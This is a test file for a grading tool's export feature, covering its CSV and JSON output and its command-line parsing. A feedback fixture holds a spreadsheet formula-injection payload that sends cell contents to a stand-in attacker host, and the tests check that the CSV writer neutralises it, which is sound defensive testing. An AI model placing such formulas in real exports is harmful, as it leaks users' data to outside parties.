import { describe, expect, it } from "vitest";
// @ts-expect-error plain JS module of the web front
import { reviewCsv } from "../../../public/js/review.js";
// @ts-expect-error plain JS module of the web front
import { csvRows } from "../../../public/js/answers-file.js";
import { EXPORT_COLUMNS, exportRows, exportText } from "../../../src/cli/export-rows";
import { parseExportCli } from "../../../src/cli/export-args";
import type { Evaluation } from "../../../src/contract";

const at = "2026-11-24T16:20:00.000Z";
const answer = (over: Record<string, unknown>) => ({
  score: 5,
  scores: [5],
  eliminatedInRound: null,
  teacherScore: null,
  calibrated: null,
  finalScore: 5,
  finalFrom: "judge",
  releasedAt: null,
  feedback: null,
  ...over,
});
const evaluation = {
  id: "ev_1",
  status: "completed",
  method: "knockout",
  champion: "b",
  maxScore: 10,
  gradeStep: 0.5,
  matches: [],
  answers: [
    answer({ id: "a", rank: 2, score: 6.3, finalScore: 6.5, examinee: "ana@school.example" }),
    answer({
      id: "b",
      rank: 1,
      score: 8.2,
      teacherScore: 9,
      finalScore: 9,
      finalFrom: "teacher",
      releasedAt: at,
      feedback: { text: '=HYPERLINK("http://evil.example/?"&A1)', from: "teacher", editedAt: at },
    }),
    answer({
      id: "c",
      rank: 3,
      score: null,
      finalScore: null,
      finalFrom: null,
      feedback: { text: "-Say more.", from: "judge", editedAt: at },
    }),
  ],
} as unknown as Evaluation;

describe("knockout-judge export: the rows", () => {
  it("one row per answer, best rank first, with the final grade, where it came from, the release and the feedback", () => {
    expect(exportRows(evaluation, new Map([["c", "Cem"]]))).toEqual([
      {
        id: "b",
        examinee: null,
        rank: 1,
        judge_score: 8.2,
        calibrated: null,
        teacher_score: 9,
        final_score: 9,
        final_from: "teacher",
        released_at: at,
        feedback: '=HYPERLINK("http://evil.example/?"&A1)',
        feedback_from: "teacher",
      },
      expect.objectContaining({
        id: "a",
        examinee: "ana@school.example",
        final_score: 6.5,
        final_from: "judge",
        released_at: null,
        feedback: null,
      }),
      // a collection's student name fills the examinee column
      expect.objectContaining({ id: "c", examinee: "Cem", judge_score: null, final_score: null, final_from: null, feedback_from: "judge" }),
    ]);
  });

  it("writes CSV with formulas neutralised by the review page's own cell writer: the same cells as its CSV", () => {
    const csv = exportText(evaluation, "csv");
    const read = csvRows(csv.trimEnd());
    expect(read.ok).toBe(true);
    const [head, ...rows] = read.rows as string[][];
    expect(head).toEqual([...EXPORT_COLUMNS]);
    expect(rows.map((r) => [r[0], r[6], r[7], r[8], r[9]])).toEqual([
      ["b", "9", "teacher", at, `'=HYPERLINK("http://evil.example/?"&A1)`],
      ["a", "6.5", "judge", "", ""],
      ["c", "", "", "", "'-Say more."],
    ]);
    expect(csv.endsWith("\r\n")).toBe(true);
    // the feedback cell, byte for byte, is the review CSV's: one neutralising, not two that could drift
    const reviewLines: string[] = reviewCsv(evaluation.answers).split("\r\n");
    const exportLines = csv.split("\r\n");
    const cell = (line: string, n: number) => (csvRows(line).rows as string[][])[0][n];
    // found by name: the review CSV gains columns now and then
    const reviewFeedback = (csvRows(reviewLines[0]).rows as string[][])[0].indexOf("feedback");
    expect(reviewFeedback).toBeGreaterThan(0);
    for (const [i, id] of ["b", "a", "c"].entries()) {
      expect(exportLines[i + 1].startsWith(`${id},`)).toBe(true);
      expect(cell(exportLines[i + 1], 9)).toBe(cell(reviewLines[i + 1], reviewFeedback));
    }
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
  });

  it("writes JSON with the scale and the same rows, texts as they are", () => {
    const json = JSON.parse(exportText(evaluation, "json"));
    expect(json).toMatchObject({ evaluation: "ev_1", maxScore: 10, gradeStep: 0.5 });
    expect(json.answers).toEqual(exportRows(evaluation));
    expect(json.answers[0].feedback).toBe('=HYPERLINK("http://evil.example/?"&A1)');
  });
});

describe("knockout-judge export: the command line", () => {
  const base = ["ev_1", "--url", "http://localhost:8787/", "--key", "kj_x"];

  it("defaults to CSV on standard output; an --out ending in .json means JSON", () => {
    expect(parseExportCli(base)).toEqual({
      ok: true,
      options: { id: "ev_1", url: "http://localhost:8787", key: "kj_x", format: "csv", out: null },
    });
    expect(parseExportCli([...base, "--out", "grades.JSON"])).toMatchObject({ ok: true, options: { format: "json", out: "grades.JSON" } });
    expect(parseExportCli([...base, "--out", "g.json", "--format", "csv"])).toMatchObject({ ok: true, options: { format: "csv" } });
    expect(parseExportCli(["col_1"], { KNOCKOUT_JUDGE_URL: "http://x", KNOCKOUT_JUDGE_KEY: "k" })).toMatchObject({
      ok: true,
      options: { id: "col_1", url: "http://x", key: "k" },
    });
  });

  it("says what is wrong", () => {
    const error = (argv: string[]) => (parseExportCli(argv) as { error: string }).error;
    expect(error(["--url", "http://x", "--key", "k"])).toMatch(/missing ID/);
    expect(error([...base, "ev_2"])).toMatch(/one ID; also given: ev_2/);
    expect(error(["ev_1", "--key", "k"])).toMatch(/--url is required/);
    expect(error(["ev_1", "--url", "http://x"])).toMatch(/--key is required/);
    expect(error([...base, "--format", "xlsx"])).toMatch(/--format must be one of csv, json/);
    expect(error([...base, "--texts"])).toMatch(/texts/);
    expect(parseExportCli(["--help"])).toEqual({ ok: false, error: "" });
  });
});
